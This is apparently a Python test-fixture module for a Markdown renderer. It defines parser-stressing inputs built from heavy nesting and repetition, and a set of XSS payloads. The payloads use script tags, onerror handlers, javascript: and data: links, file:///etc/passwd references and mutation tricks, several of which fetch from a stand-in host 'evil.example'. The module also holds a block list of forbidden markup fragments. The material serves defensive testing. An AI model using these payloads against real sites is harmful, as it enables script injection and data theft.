"""Texts that nobody writes and everybody may be sent: they keep parsers busy, want to run, or want to be fetched."""

from collections.abc import Mapping
from types import MappingProxyType

_EMOJI = "👩‍👩‍👧‍👦🏳️‍🌈👍🏽"

HEAVY: Mapping[str, str] = MappingProxyType(
    {
        "open brackets": "[" * 20_000,
        "open photos": "![a](" * 5_000,
        "open stars": "*a **b" * 10_000,
        "stars and lines": "*a __b ***c _d " * 4_000,
        "quotes in quotes": "> " * 5_000 + "a",
        "growing quotes": "\n".join(">" * depth + " a" for depth in range(1, 1_000)),
        "lists in lists": "\n".join("    " * depth + "- a" for depth in range(500)),
        "quotes in lists": "\n".join("    " * depth + "- > a" for depth in range(200)),
        "numbered markers": "1. " * 5_000 + "a",
        "open note": "<!-- " + "a word <!- " * 5_000,
        "open notes": "<!--\n\n" * 5_000,
        "notes that end twice": "<!-- a --> --> " * 5_000,
        "backticks": "`" * 50_000,
        "growing backticks": " ".join("`" * count for count in range(1, 500)),
        "footnotes in a ring": "".join(f"[^{n}]: See[^{(n + 1) % 2_000}]\n" for n in range(2_000)) + "\nStart[^0]",
        "footnotes of all": "".join(f"a[^{n}] " for n in range(2_000)) + "\n\n" + "[^0]: note\n" * 2_000,
        "abbreviations": "".join(f"*[A{n}]: long name {n}\n" for n in range(5_000)) + "\nA1 A2 A4999",
        "abbreviations without names": "*[a]:\n" * 5_000 + "\na a a",
        "long table": "a|b|c\n-|-|-\n" + "1|2|3\n" * 50_000,
        "wide table": "|".join("a" * 3_000) + "\n" + "|".join("-" * 3_000) + "\n" + ("|".join("1" * 3_000) + "\n") * 10,
        "pipes": "|" * 50_000,
        "definitions": "".join(f"[n{n}]: https://a.example/{n}\n" for n in range(10_000)) + "\n[n1] [n9999]",
        "definitions of one name": "[n]: https://a.example/\n" * 10_000 + "\n[n]",
        "overrides": "\u202e\u2066" * 20_000 + "text" + "\u202c\u2069" * 20_000,
        "nothing wide": "\u200b\u200d\u2060\ufeff" * 25_000,
        "emoji": _EMOJI * 50_000,
        "accents": "e" + "\u0301" * 50_000,
        "one word": "a" * 1_000_000,
        "one line": "The harbour board. " * 20_000,
        "open tags": "<a " * 10_000,
        "tags in tags": "<div>" * 5_000 + "a",
        "inline tags": "<b><i>" * 5_000 + "a",
        "entities": "&amp;" * 20_000,
        "open entities": "&" * 20_000,
        "open addresses": "[a](<b " * 5_000,
        "links in links": "[" * 100 + "a" + "](b)" * 100,
        "titles": '[a](b "' * 4_000,
        "attributes": "# a {: " + "a=b " * 10_000 + "}",
        "open attributes": "a {: " * 5_000,
        "mail addresses": "<a@b.example" * 5_000,
        "fences": "```\n~~~\n" * 5_000,
        "captions": "/// caption\n" * 3_000,
        "rules": "***\n---\n___\n" * 3_000,
        "headings": "# a\n" * 5_000,
        "underlines": "a\n=\n" * 5_000,
        "terms": "a\n: b\n" * 2_000,
        "spaces": " " * 100_000 + "a",
        "tabs": "\t" * 20_000 + "a",
        "blank lines": "\n" * 100_000 + "a",
        "carriage returns": "a\r" * 20_000,
        "control signs": "".join(map(chr, range(32))) * 1_000,
        "half pairs": "\ud800a\udc00" * 10_000,
        "struck": "~~a ~" * 8_000,
        "task boxes": "- [ ] " * 5_000,
        "read-also": "**READ ALSO:** [" * 4_000,
        "quotation marks": "\"'" * 20_000,
        "dots and dashes": "...---" * 10_000,
        "backslashes": "\\" * 40_000,
        "underscores": "_" * 20_000,
        "front matter within": "---\na: b\n---\n" * 3_000,
        "addresses": "https://a.example/" + "a?b=c&" * 5_000,
    }
)
"""Bodies, by what they hold."""

ATTACKS: Mapping[str, str] = MappingProxyType(
    {
        "script element": "<script>document.title='owned'; fetch('{web}/script')</script>",
        "script from elsewhere": '<script src="{web}/script.js"></script>',
        "photo that fails": '<img src="x" onerror="document.title=\'owned\'">',
        "drawing": '<svg onload="document.title=\'owned\'"><script>document.title="owned"</script></svg>',
        "link that runs": "[click](javascript:document.title='owned')",
        "link that runs, disguised": '<a href="java\tscript:document.title=\'owned\'">click</a> '
        '<a href=" JaVaScRiPt:x">x</a>',
        "page as an address": '<a href="data:text/html,<script>1</script>">x</a> '
        "![x](data:text/html;base64,PHNjcmlwdD4=)",
        "file as an address": "![x](file:///etc/passwd) [x](file:///etc/passwd) <img src='file:///etc/hostname'>",
        "photo of elsewhere": "![x]({web}/photo.png)",
        "photo without a scheme": '![x](//{host}/photo.png) <img src="//{host}/other.png">',
        "style that fetches": '<style>@import "{web}/s.css"; p {{ background: url({web}/bg.png) }}</style>'
        '<p style="background:url({web}/inline.png)">x</p>',
        "frame": '<iframe src="{web}/frame"></iframe>'
        '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
        "form": '<form action="{web}/form"><input name="a" autofocus onfocus="document.title=\'owned\'">'
        "<button>Go</button></form>",
        "plug-in": '<object data="{web}/x.swf"></object><embed src="{web}/y.swf">',
        "orders to the page": '<meta http-equiv="refresh" content="0;url={web}/meta"><base href="{web}/">'
        '<link rel="stylesheet" href="{web}/link.css">',
        "attributes in braces": "Text {{: onclick=\"document.title='owned'\" style=\"background:url({web}/a.png)\" }}"
        "\n\n"
        "![x](y.png){{: onerror=\"document.title='owned'\" }}",
        "markup that mutates": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
        "onerror=document.title='owned'&gt;\">\n\n"
        "<noscript><p title=\"</noscript><img src=x onerror=document.title='owned'>\">",
    }
)  # fmt: skip
"""The cases of a story that was sent by somebody else; `attack` puts in where it would fetch from."""

FORBIDDEN = (
    "<script", "<svg", "<math", "<iframe", "<object", "<embed", "<form", "<input", "<button", "<style", "<link",
    "<meta http-equiv", "<base", "<template", "<noscript", '="javascript:', '="data:', '="vbscript:', '="file:',
    " onerror=", " onclick=", " onload=", " onfocus=", "autofocus", "srcdoc", "background:",
)  # fmt: skip
"""What no markup of ours may hold."""


def attack(name: str, host: str = "evil.example") -> str:
    """The Markdown of this attack, which fetches from `host` ("name" or "name:port")."""
    return ATTACKS[name].format(web=f"http://{host}", host=host)


def tags(html: str) -> str:
    """The markup alone, in lower case: text that shows code is no danger."""
    return " ".join(f"<{part.split('>', 1)[0]}" for part in html.split("<")[1:]).lower()
